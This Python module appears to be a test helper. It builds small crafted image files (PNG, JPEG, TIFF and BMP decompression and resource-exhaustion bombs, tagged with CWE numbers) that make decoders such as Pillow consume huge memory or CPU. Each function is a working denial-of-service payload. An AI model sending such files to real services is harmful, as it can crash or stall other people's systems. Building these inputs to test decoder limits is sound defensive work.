"""Small files that ask for much: each is made here, of a few kilobytes, and none is a real picture."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image


def wide_png(side: int = 8_900) -> bytes:
    """A PNG of side x side pixels with transparency, all black: some 300 kB (CWE-409)."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">L", len(data)) + name + data + struct.pack(">L", zlib.crc32(name + data))

    packer, rows = zlib.compressobj(9), b""
    for _ in range(side):
        rows += packer.compress(bytes(4 * side + 1))
    head = struct.pack(">LLBBBBB", side, side, 8, 6, 0, 0, 0)
    body = chunk(b"IHDR", head) + chunk(b"IDAT", rows + packer.flush()) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def many_scans(width: int = 4_000, height: int = 2_500, scans: int = 1_000) -> bytes:
    """A progressive JPEG whose last scan is repeated: each is a pass over all pixels (CWE-400)."""
    out = io.BytesIO()
    Image.new("L", (width, height), 128).save(out, "JPEG", progressive=True)
    whole = out.getvalue()
    last = whole.rindex(b"\xff\xda")
    return whole[:last] + whole[last:-2] * scans + b"\xff\xd9"


def torn_exif(segments: int = 60_000) -> bytes:
    """A JPEG whose Exif comes in so many segments that putting them together takes the square of them."""
    return _with_segments([b"Exif\0\0" + bytes(200)] * segments)


def junk_before_the_scan(size: int = 60_000_000) -> bytes:
    """A JPEG with bytes between its segments, which are skipped one by one."""
    whole = _with_segments([])
    return whole[:2] + b"\xff\xe0\0\x02" + bytes(size) + whole[2:]


def _with_segments(bodies: list[bytes]) -> bytes:
    out = io.BytesIO()
    Image.new("L", (16, 16)).save(out, "JPEG")
    whole = out.getvalue()
    added = b"".join(b"\xff\xe1" + struct.pack(">H", len(body) + 2) + body for body in bodies)
    return whole[:2] + added + whole[2:]


def wide_tiles(side: int = 40_000) -> bytes:
    """A TIFF of 16 x 16 pixels in one tile of side x side, packed by deflate (CWE-789)."""
    packer, tile = zlib.compressobj(9), b""
    for _ in range(100):
        tile += packer.compress(bytes(1_000_000))
    tile += packer.flush()
    fields = [
        (256, 3, 16), (257, 3, 16), (258, 3, 8), (259, 3, 8), (262, 3, 1), (277, 3, 1),
        (322, 4, side), (323, 4, side), (324, 4, 8), (325, 4, len(tile)),
    ]  # fmt: skip
    directory = struct.pack("<H", len(fields))
    for tag, kind, value in fields:
        directory += struct.pack("<HHLL", tag, kind, 1, value)
    return b"II*\0" + struct.pack("<L", 8 + len(tile)) + tile + directory + bytes(4)


def greedy_field(fractions: int = 4_000_000) -> bytes:
    """A TIFF with a field of millions of fractions, each an object of its own once it is read."""
    values = b"\1\0\0\0" * (2 * fractions)
    fields = [
        (256, 3, 1, 16), (257, 3, 1, 16), (258, 3, 1, 8), (262, 3, 1, 1), (273, 4, 1, 8), (279, 4, 1, 256),
        (0xC000, 5, fractions, 8),
    ]  # fmt: skip
    directory = struct.pack("<H", len(fields)) + b"".join(struct.pack("<HHLL", *field) for field in fields)
    return b"II*\0" + struct.pack("<L", 8 + len(values)) + values + directory + bytes(4)


def black_runs(side: int = 2_800) -> bytes:
    """A BMP of runs of one pixel each, which Pillow unpacks one by one."""
    runs = b"\x01\0" * (side * side)
    start = 14 + 40 + 1024
    head = b"BM" + struct.pack("<LLL", start + len(runs), 0, start)
    info = struct.pack("<LllHHLLllLL", 40, side, side, 1, 8, 1, len(runs), 0, 0, 256, 0)
    return head + info + bytes(1024) + runs


BOMBS = {
    "a wide PNG": wide_png,
    "hundreds of scans": many_scans,
    "a torn Exif": torn_exif,
    "junk before the scan": junk_before_the_scan,
    "wide tiles": wide_tiles,
    "a greedy field": greedy_field,
    "runs of one pixel": black_runs,
}
